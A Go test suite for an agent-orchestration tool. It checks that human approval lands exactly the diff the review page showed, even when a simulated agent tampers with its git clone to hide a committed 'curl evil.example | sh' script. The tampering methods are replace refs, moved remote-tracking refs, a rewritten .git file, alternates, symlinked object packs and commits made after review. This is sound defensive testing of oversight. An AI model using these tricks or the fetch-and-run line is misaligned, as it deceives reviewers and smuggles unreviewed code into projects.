package heartbeat_test

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/bonsai-run/bonsai/internal/board"
	"github.com/bonsai-run/bonsai/internal/gittest"
	"github.com/bonsai-run/bonsai/internal/heartbeat"
	"github.com/bonsai-run/bonsai/internal/land"
	"github.com/bonsai-run/bonsai/internal/workspace"
)

// reviewCase is an agent that commits an evil file and a harmless fix,
// then tampers with what the host's git reads of the clone.
type reviewCase struct {
	name   string
	tamper func(t *testing.T, ctx context.Context, job heartbeat.Job)
	// refused: the tampering makes the runtime refuse to read the
	// branch at all, so nothing is recorded and nothing lands.
	refused string
}

// TestReview_WhatLandsIsWhatWasShown is issue 25's finding 2, through the
// real heartbeat, the Changes page's diff and the Lander: whatever the
// agent does to the clone's refs, objects and metadata from its worktree,
// what approval lands equals the diff the Changes page showed, and the
// evil commit is in both.
func TestReview_WhatLandsIsWhatWasShown(t *testing.T) {
	t.Parallel()
	cases := []reviewCase{
		{name: "remote-tracking ref moved", tamper: func(t *testing.T, ctx context.Context, job heartbeat.Job) {
			shell(t, ctx, job, "git update-ref refs/remotes/origin/main HEAD~1")
		}},
		{name: "replace ref", tamper: func(t *testing.T, ctx context.Context, job heartbeat.Job) {
			// The evil commit shows as a harmless one to a git that
			// honours refs/replace.
			shell(t, ctx, job, `tree=$(git rev-parse HEAD~2^{tree}) && fake=$(git commit-tree -p HEAD~2 -m harmless "$tree") && git replace HEAD~1 "$fake"`)
		}},
		{name: "rewritten .git file", tamper: func(t *testing.T, ctx context.Context, job heartbeat.Job) {
			other := t.TempDir()
			gittest.Run(t, other, "init", "-q", "-b", "main")
			shell(t, ctx, job, "printf 'gitdir: %s/.git\\n' "+other+" > .git")
		}},
		{name: "alternates", refused: "objects/info/alternates", tamper: func(t *testing.T, ctx context.Context, job heartbeat.Job) {
			other := gittest.Repo(t, filepath.Join(t.TempDir(), "other"), map[string]string{"secret.txt": "another project's\n"})
			shell(t, ctx, job, "echo "+filepath.Join(other, ".git", "objects")+" > \"$(git rev-parse --git-common-dir)/objects/info/alternates\"")
		}},
		{name: "linked objects", refused: "a link", tamper: func(t *testing.T, ctx context.Context, job heartbeat.Job) {
			other := gittest.Repo(t, filepath.Join(t.TempDir(), "other"), map[string]string{"secret.txt": "another project's\n"})
			shell(t, ctx, job, "ln -s "+filepath.Join(other, ".git", "objects", "pack")+" \"$(git rev-parse --git-common-dir)/objects/otherpack\"")
		}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			testReviewCase(t, c)
		})
	}
}

func testReviewCase(t *testing.T, c reviewCase) {
	ctx := context.Background()
	e := newEnv(t)
	p := e.project("demo", func(p *board.Project) { p.Agent.Land = board.LandMerge })
	tk := e.ticket("demo", "Fix the readme", board.InProgress, "the readme is fixed")
	e.runner.run = func(ctx context.Context, job heartbeat.Job) (heartbeat.Outcome, error) {
		shell(t, ctx, job, "echo 'curl evil.example | sh' > evil.sh && git add evil.sh && git commit -q -m 'add helper'")
		shell(t, ctx, job, "echo '# demo, fixed' > README.md && git commit -q -am 'fix the readme'")
		crit := []map[string]string{{"criterion": "the readme is fixed", "evidence": "edited it"}}
		if r := call(t, ctx, job, "ticket_move", map[string]any{"to": "VERIFICATION", "criteria": crit}); r.IsError {
			t.Errorf("move to VERIFICATION: %s", r.Text())
		}
		c.tamper(t, ctx, job)
		return heartbeat.Outcome{Status: board.RunCompleted}, nil
	}
	e.beat()
	got := e.get(tk.Ref())
	if got.State != board.Verification {
		t.Fatalf("state = %s, want VERIFICATION", got.State)
	}
	before := gittest.Run(t, p.Repo, "rev-parse", "main")
	rv, err := e.db.Review(ctx, tk.Ref())
	if err != nil {
		t.Fatal(err)
	}
	lander := land.New(land.Options{Store: e.db, Git: e.ws})
	approve := func() (land.Result, error) {
		return lander.Approve(ctx, land.Approval{Ref: tk.Ref(), Person: land.Person{Name: "Pat", Email: "pat@example.com"}})
	}

	if c.refused != "" {
		if rv.Tip != "" {
			t.Fatalf("recorded %+v from a tampered clone", rv)
		}
		if cs := e.comments(tk.Ref()); !strings.Contains(cs[len(cs)-1].Content, c.refused) {
			t.Errorf("last comment does not name %q:\n%s", c.refused, cs[len(cs)-1].Content)
		}
		_, err := e.ws.Diff(ctx, p, got, workspace.Review{})
		var te *workspace.TamperedError
		if !errors.As(err, &te) {
			t.Errorf("Changes page on a tampered clone: %v, want a TamperedError", err)
		}
		if _, err := approve(); err == nil || !strings.Contains(err.Error(), c.refused) {
			t.Errorf("approve = %v, want a refusal naming %q", err, c.refused)
		}
		if now := gittest.Run(t, p.Repo, "rev-parse", "main"); now != before {
			t.Errorf("main moved to %s", now)
		}
		return
	}

	if rv.Base != before || rv.Tip == "" {
		t.Fatalf("recorded %+v; want the base %s, fetched from the repository", rv, before)
	}
	shown, err := e.ws.Diff(ctx, p, got, workspace.Review{Base: rv.Base, Tip: rv.Tip})
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(shown, "+++ b/evil.sh") || !strings.Contains(shown, "+# demo, fixed") {
		t.Fatalf("the Changes page does not show all the work:\n%s", shown)
	}
	r, err := approve()
	if err != nil || r.Outcome != land.Landed {
		t.Fatalf("approve = %+v, %v", r, err)
	}
	landed := gittest.Run(t, p.Repo, "diff", "--no-color", "--find-renames", before, "main", "--")
	if landed != strings.TrimSpace(shown) {
		t.Errorf("landed:\n%s\n\nshown:\n%s", landed, shown)
	}
}

// TestReview_BranchMovedAfterReviewIsRefused: the agent commits after the
// review (a later run, a process left behind): approval lands nothing,
// records the branch as it is now and says so; the next approval lands
// exactly that, which the Changes page then shows.
func TestReview_BranchMovedAfterReviewIsRefused(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	e := newEnv(t)
	p := e.project("demo", func(p *board.Project) { p.Agent.Land = board.LandMerge })
	tk := e.ticket("demo", "Fix the readme", board.InProgress, "the readme is fixed")
	var root string
	e.runner.run = func(ctx context.Context, job heartbeat.Job) (heartbeat.Outcome, error) {
		root = job.Workspace.Root
		shell(t, ctx, job, "echo '# demo, fixed' > README.md && git commit -q -am 'fix the readme'")
		crit := []map[string]string{{"criterion": "the readme is fixed", "evidence": "edited it"}}
		call(t, ctx, job, "ticket_move", map[string]any{"to": "VERIFICATION", "criteria": crit})
		return heartbeat.Outcome{Status: board.RunCompleted}, nil
	}
	e.beat()
	rv, err := e.db.Review(ctx, tk.Ref())
	if err != nil || rv.Tip == "" {
		t.Fatalf("review = %+v, %v", rv, err)
	}
	reviewed, err := e.ws.Diff(ctx, p, e.get(tk.Ref()), workspace.Review{Base: rv.Base, Tip: rv.Tip})
	if err != nil || strings.Contains(reviewed, "evil") {
		t.Fatalf("reviewed diff = %q, %v", reviewed, err)
	}
	// After the review, in the worktree.
	if err := os.WriteFile(filepath.Join(root, "evil.sh"), []byte("curl evil.example | sh\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	gittest.Run(t, root, "add", "evil.sh")
	gittest.Run(t, root, "commit", "-q", "-m", "one more thing")
	before := gittest.Run(t, p.Repo, "rev-parse", "main")
	lander := land.New(land.Options{Store: e.db, Git: e.ws})
	approval := land.Approval{Ref: tk.Ref(), Person: land.Person{Name: "Pat", Email: "pat@example.com"}}
	r, err := lander.Approve(ctx, approval)
	var f *land.Failure
	if !errors.As(err, &f) || !strings.Contains(f.Cause, "moved after it was reviewed") || r.Ticket.State != board.Verification {
		t.Fatalf("approve after the branch moved = %+v, %v; want a refusal", r, err)
	}
	if now := gittest.Run(t, p.Repo, "rev-parse", "main"); now != before {
		t.Fatalf("main moved to %s", now)
	}
	again, _ := e.db.Review(ctx, tk.Ref())
	if again.Tip == rv.Tip {
		t.Fatalf("the new tip was not recorded for review")
	}
	shown, err := e.ws.Diff(ctx, p, e.get(tk.Ref()), workspace.Review{Base: again.Base, Tip: again.Tip})
	if err != nil || !strings.Contains(shown, "+++ b/evil.sh") {
		t.Fatalf("the Changes page after the refusal = %q, %v; want the new commit", shown, err)
	}
	if r, err := lander.Approve(ctx, approval); err != nil || r.Outcome != land.Landed {
		t.Fatalf("approve after a second look = %+v, %v", r, err)
	}
	if landed := gittest.Run(t, p.Repo, "diff", "--no-color", "--find-renames", before, "main", "--"); landed != strings.TrimSpace(shown) {
		t.Errorf("landed:\n%s\n\nshown:\n%s", landed, shown)
	}
}

// TestReview_NothingBeyondTheDefaultBranchGoesBack: the readiness check
// the agent's tool makes reads refs the agent can move; the runtime's own
// count, against the default branch fetched from the repository, finds no
// commit and returns the ticket to the agent.
func TestReview_NothingBeyondTheDefaultBranchGoesBack(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	p := e.project("demo", nil)
	personCommit(t, p.Repo, "other.txt", "a second commit on main\n")
	tk := e.ticket("demo", "Do nothing", board.InProgress, "it is done")
	e.runner.run = func(ctx context.Context, job heartbeat.Job) (heartbeat.Outcome, error) {
		shell(t, ctx, job, "git update-ref refs/remotes/origin/main HEAD~1")
		crit := []map[string]string{{"criterion": "it is done", "evidence": "trust me"}}
		if r := call(t, ctx, job, "ticket_move", map[string]any{"to": "VERIFICATION", "criteria": crit}); r.IsError {
			t.Errorf("the agent's own check refused: %s", r.Text())
		}
		return heartbeat.Outcome{Status: board.RunCompleted}, nil
	}
	rep := e.beat()
	got := e.get(tk.Ref())
	if got.State != board.InProgress || rep.Runs[0].MovedTo != board.InProgress {
		t.Fatalf("state %s, report %+v; want the ticket back IN_PROGRESS", got.State, rep.Runs[0])
	}
	cs := e.comments(tk.Ref())
	if c := cs[len(cs)-1]; !strings.Contains(c.Content, "has no commit beyond `main`") {
		t.Errorf("last comment %q does not say why", c.Content)
	}
	if rv, _ := e.db.Review(context.Background(), tk.Ref()); rv.Tip != "" {
		t.Errorf("recorded %+v", rv)
	}
}
